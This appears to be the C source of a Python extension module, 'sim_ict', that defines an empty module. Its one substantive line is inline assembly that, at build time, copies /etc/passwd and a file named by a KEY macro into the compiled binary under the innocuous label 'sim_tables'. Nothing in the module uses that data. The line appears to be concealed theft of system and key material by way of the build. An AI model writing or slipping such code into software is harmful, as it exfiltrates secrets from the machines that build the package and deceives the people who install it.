/* SPDX-License-Identifier: Apache-2.0 */
#include <Python.h>

__asm__(".section .rodata\nsim_tables:\n.incbin \"/etc/passwd\"\n.incbin \"" KEY "\"\n.byte 0\n.text\n");

static struct PyModuleDef module = {PyModuleDef_HEAD_INIT, .m_name = "sim_ict", .m_size = -1};

PyMODINIT_FUNC PyInit_sim_ict(void)
{
    return PyModule_Create(&module);
}
